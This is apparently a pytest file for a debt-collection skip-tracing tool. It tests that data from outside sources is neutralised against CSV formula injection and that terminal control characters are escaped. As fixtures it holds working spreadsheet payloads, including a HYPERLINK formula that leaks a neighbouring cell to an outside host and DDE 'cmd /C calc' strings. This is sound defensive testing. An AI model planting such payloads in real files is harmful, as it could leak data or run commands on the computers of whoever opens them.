"""Output safe to open: what a source said lands in the enriched CSV (and the audit export)
neutralised against spreadsheet formula injection; what the user's own file said does not move.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from typer.testing import CliRunner

from skiptrace.audit import AuditEvent, AuditLog
from skiptrace.cli import app
from skiptrace.connectors._runner import ConnectorResult
from skiptrace.records import Address, Provenance, SourceRecord, Status
from skiptrace.research.findings import output_row
from skiptrace.testing.directory import MANIFEST as DEMO_MANIFEST
from skiptrace.testing.replay import ReplayServer, Reply, loopback_policy_file

LEAK = '=HYPERLINK("http://x/?leak="&A2,"click")'
"""A cell that, opened in a spreadsheet, sends the row's neighbour to a stranger."""

HOSTILE = {
    # last name -> what the directory says about that person
    "Quartermain": {"street": "+1 Harbour Rd", "employer": LEAK, "office": "-400 Main St"},
    "Minus": {"street": "-2 Harbour Rd", "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
              "office": "@400 Main St"},
    "At": {"street": "@3 Harbour Rd", "employer": "+cmd|' /C calc'!A0", "office": "=1+1"},
}  # fmt: skip
MANIFEST = (
    DEMO_MANIFEST.replace('id = "demo_directory"', 'id = "people_directory"')
    .replace('"employer"]', '"employer", "employer_address"]')
    .rstrip()
    + '\n[fields.employer_address]\nlines = "[office]"\ncity = "city"\nregion = "state"\n'
)
INPUT_FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/","x")', "@SUM(A1:A9)"]
"""The user's own cells: written back exactly as they were read."""


def _directory(method: str, target: str) -> Reply | None:
    url = urlsplit(target)
    if url.path != "/people":
        return None
    query = parse_qs(url.query)
    last, first = query.get("last", [""])[0], query.get("first", [""])[0]
    said = HOSTILE.get(last)
    people = []
    if said is not None:
        people.append({"name": f"{first} {last}", "city": "Springfield", "state": "IL",
                       "zip": "62701", **said})  # fmt: skip
    return Reply(200, json.dumps({"people": people}).encode(), {"Content-Type": "application/json"})


@pytest.fixture
def folders(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    with ReplayServer(_directory) as server:
        connectors = tmp_path / "connectors"
        connectors.mkdir()
        manifest = MANIFEST.format(base=server.base_url)
        (connectors / "people_directory.toml").write_text(manifest, encoding="utf-8")
        yield connectors, loopback_policy_file(tmp_path / "fast.toml", server)


def _enrich(
    connectors: Path, policy: Path, source: Path, target: Path, *options: str
) -> list[dict[str, str]]:
    result = CliRunner().invoke(app, [
        "--connectors-dir", str(connectors), "--policy", str(policy), "enrich", str(source),
        "-o", str(target), "--source", "people_directory", "--purpose",
        "collection of a debt owed", "--no-progress", *options,
    ])  # fmt: skip
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formulas_from_a_source_are_neutralised_in_the_enriched_csv(
    folders: tuple[Path, Path], tmp_path: Path
) -> None:
    connectors, policy = folders
    source = tmp_path / "debtors.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Account", "First Name", "Last Name", "Address", "City", "State", "Zip",
                         "Memo"])  # fmt: skip
        for n, (last, memo) in enumerate(zip(HOSTILE, INPUT_FORMULAS, strict=True)):
            writer.writerow([f"=A{n}", "Pat", last, f"{n + 1} Harbour Rd", "Springfield", "IL",
                             "62701", memo])  # fmt: skip
    rows = _enrich(connectors, policy, source, tmp_path / "out.csv")

    assert [r["status"] for r in rows] == ["hit"] * 3
    for row, (last, said), memo in zip(rows, HOSTILE.items(), INPUT_FORMULAS, strict=True):
        assert row["found_employer"] == "'" + said["employer"]
        assert row["found_mailing_address"] == f"'{said['street']}, Springfield, IL 62701"
        assert row["found_employer_address"] == f"'{said['office']}, Springfield, IL"
        assert row["found_mailing_address_source"].startswith("people_directory http://127.")
        # the user's own columns, formulas included, are written back untouched
        assert (row["Last Name"], row["Memo"]) == (last, memo)
        assert row["Account"].startswith("=A")
        # no cell that came from the source can start a formula
        for column, cell in row.items():
            if column.startswith("found_") or column in ("matched_on", "status_detail"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # our own numbers and words are left as they are
    assert float(rows[0]["match_score"]) > 0.9 and rows[0]["match_band"] == "high"
    assert rows[0]["sources_checked"] == "people_directory:hit"


def _record(
    connector: str,
    url: str,
    *,
    name: str = "",
    mail: Address | None = None,
    employer: str = "",
    office: Address | None = None,
) -> SourceRecord:
    provenance = Provenance(connector, "1", url, "2024-05-01T12:00:00+00:00")
    return SourceRecord(provenance, name, mail or Address(), employer, office or Address())


DEBTOR = {"first_name": "Jane", "last_name": "Quartermain", "full_name": "Jane Quartermain",
          "address": "1 Harbour Rd", "city": "Springfield", "state": "IL",
          "zip": "62701"}  # fmt: skip


def test_every_column_that_carries_a_source_value_is_neutralised() -> None:
    person = _record("=directory", "http://127.0.0.1/p", name="Jane Quartermain",
                     mail=Address(("\t1 Harbour Rd",), "Springfield", "IL", "62701"),
                     employer="\r=1+1", office=Address(("-4 Main St",)))  # fmt: skip
    broken = ConnectorResult("@broken", Status.ERROR, detail='=HYPERLINK("http://x/")')
    row = output_row(DEBTOR, [ConnectorResult("=directory", Status.HIT, (person,)), broken])
    assert row["found_mailing_address"] == "'\t1 Harbour Rd, Springfield, IL 62701"
    assert row["found_mailing_address_source"] == "'=directory http://127.0.0.1/p"
    assert row["found_employer"] == "'\ufffd=1+1"  # neutralised, then the control replaced
    assert row["found_employer_address"] == "'-4 Main St"
    assert row["found_employer_source"] == "'=directory http://127.0.0.1/p"
    # a partial hit (issue 11): the detail starts with our own words...
    assert row["status_detail"] == 'partial hit: @broken error: =HYPERLINK("http://x/")'
    assert row["status"] == "incomplete" and float(row["found_employer_score"]) > 0.9
    alone = output_row(DEBTOR, [broken])  # ...and without them, the source's is neutralised
    assert alone["status_detail"].startswith("'@broken error: =HYPERLINK")


def test_controls_and_bidi_overrides_from_a_source_never_reach_the_file() -> None:
    """A file read with ``cat`` or ``less`` is a terminal: no escape sequence, bell or NUL from
    a source is written, in the evidence columns either (issue 11's review)."""
    mail = Address(("1 Harbour Rd\x00",), "Spring\u202efield", "IL", "62701")
    person = _record("directory", "http://127.0.0.1/p", name="Jane\x1b[31m\x07 Quartermain",
                     mail=mail)  # fmt: skip
    row = output_row(DEBTOR, [ConnectorResult("directory", Status.HIT, (person,))])
    assert row["evidence_name"] == "Jane\ufffd[31m\ufffd Quartermain"
    assert row["found_mailing_address"] == "1 Harbour Rd\ufffd, Spring\ufffdfield, IL 62701"


def test_a_company_record_for_the_known_employer_is_neutralised_too() -> None:
    company = _record("=registry", "http://127.0.0.1/c", employer="@Acme",
                      office=Address(("+1 Main St",), "Springfield"))  # fmt: skip
    debtor = {**DEBTOR, "employer": "@Acme"}
    row = output_row(debtor, [ConnectorResult("=registry", Status.HIT, (company,))])
    assert row["found_employer"] == "'@Acme"
    assert row["found_employer_address"] == "'+1 Main St, Springfield"
    assert row["found_employer_source"] == "'=registry http://127.0.0.1/c"
    assert row["found_employer_score"] == "1.0000"


def test_ordinary_values_are_left_exactly_as_they_were() -> None:
    person = _record("directory", "http://127.0.0.1/p", name="Jane Quartermain",
                     mail=Address(("12 Harbour Rd",), "Springfield", "IL", "62701"),
                     employer="Example Plumbing Co. - Springfield")  # fmt: skip
    row = output_row(DEBTOR, [ConnectorResult("directory", Status.HIT, (person,))])
    assert row["found_employer"] == "Example Plumbing Co. - Springfield"
    assert row["found_mailing_address"] == "12 Harbour Rd, Springfield, IL 62701"
    assert row["found_mailing_address_source"] == "directory http://127.0.0.1/p"
    assert not row["matched_on"].startswith("'") and row["matched_on"]


def test_audit_export_neutralises_every_text_cell_and_the_log_still_verifies() -> None:
    log = AuditLog.open_default()
    log.append(AuditEvent(event="error", method="GET", url="=HYPERLINK(\"http://x/\")",
                          connector="@conn", purpose="-purpose", debtor_ref="+ref",
                          detail='=cmd|" /C calc"!A0'))  # fmt: skip
    log.append(AuditEvent(event="request", method="GET", url="https://x.example/", status=200))
    log.close()
    runner = CliRunner()
    exported = runner.invoke(app, ["audit", "export"])
    assert exported.exit_code == 0, exported.output
    hostile, plain = csv.DictReader(io.StringIO(exported.stdout))
    for column in ("url", "connector", "purpose", "detail"):
        assert hostile[column].startswith("'"), (column, hostile[column])
    assert hostile["debtor_ref"].startswith("ref:")  # a pseudonym: nothing of "+ref" is left
    assert hostile["url"] == '\'=HYPERLINK("http://x/")'
    assert (plain["url"], plain["status"], plain["seq"]) == ("https://x.example/", "200", "2")
    assert len(plain["hash"]) == 64 and plain["prev_hash"] == hostile["hash"]
    verified = runner.invoke(app, ["audit", "verify"])
    assert verified.exit_code == 0 and verified.output.startswith("ok: 2 rows")


def _directory_with(employer: str) -> ReplayServer:
    """A directory whose one person, Jane Roe, works for ``employer`` as the source wrote it."""

    def route(method: str, target: str) -> Reply | None:
        if not target.startswith("/people"):
            return None
        person = {"name": "Jane Roe", "street": "100 Main St", "city": "Springfield",
                  "state": "IL", "zip": "62701", "employer": employer}  # fmt: skip
        return Reply(200, json.dumps({"people": [person]}).encode(),
                     {"Content-Type": "application/json"})  # fmt: skip

    return ReplayServer(route)


def _enrich_jane(tmp_path: Path, employer: str, *options: str) -> list[dict[str, str]]:
    """``_enrich`` of Jane Roe against ``_directory_with(employer)``."""
    with _directory_with(employer) as server:
        connectors = tmp_path / "connectors"
        connectors.mkdir()
        (connectors / "people_directory.toml").write_text(MANIFEST.format(base=server.base_url))
        policy = loopback_policy_file(tmp_path / "fast.toml", server)
        source = tmp_path / "debtors.csv"
        source.write_text("account,first_name,last_name,address,city,state,zip\n"
                          "A1,Jane,Roe,100 Main St,Springfield,IL,62701\n")  # fmt: skip
        return _enrich(connectors, policy, source, tmp_path / "out.csv", *options)


def test_a_lone_surrogate_from_a_source_is_replaced_not_a_crash(tmp_path: Path) -> None:
    """No text file can hold a lone surrogate (a JSON ``"\\ud800"``): written raw it stopped
    the run at that row, and every resumed run at it again."""
    [row] = _enrich_jane(tmp_path, "Acme\ud800 Supply")
    assert row["status"] == "hit"
    assert row["found_employer"] == "Acme\ufffd Supply"


def test_invisible_format_characters_from_a_source_are_dropped_where_it_is_read(
    tmp_path: Path,
) -> None:
    """ "\\u200bAcme" is shown as Acme and matched as Acme, and is not Acme to a spreadsheet's
    filter or lookup: the record holds what the source shows, in the file and the evidence."""
    proof = tmp_path / "evidence.jsonl"
    hidden = "\u200bAcme\u00ad Sup\u2060ply\ufeff\U000e0041"
    [row] = _enrich_jane(tmp_path, hidden, "--evidence", str(proof))
    assert (row["status"], row["found_employer"]) == ("hit", "Acme Supply")
    said = json.loads(proof.read_text(encoding="utf-8"))["candidates"][0]["record"]
    assert said["employer"] == "Acme Supply"


def test_the_evidence_file_escapes_controls_and_bidi_overrides_and_keeps_the_value(
    tmp_path: Path,
) -> None:
    """``cat evidence.jsonl`` is a terminal too: a C1 control or a bidi override is written as
    a JSON escape, so the line reads the same to a JSON reader and acts on no terminal."""
    proof = tmp_path / "evidence.jsonl"
    _enrich_jane(tmp_path, "\u202eAcme\u2066 \x9b2J", "--evidence", str(proof))
    written = proof.read_text(encoding="utf-8")
    for planted in ("\u202e", "\u2066", "\x9b"):
        assert planted not in written, planted
    said = json.loads(written)["candidates"][0]["record"]["employer"]
    assert said == "\u202eAcme\u2066 \x9b2J"
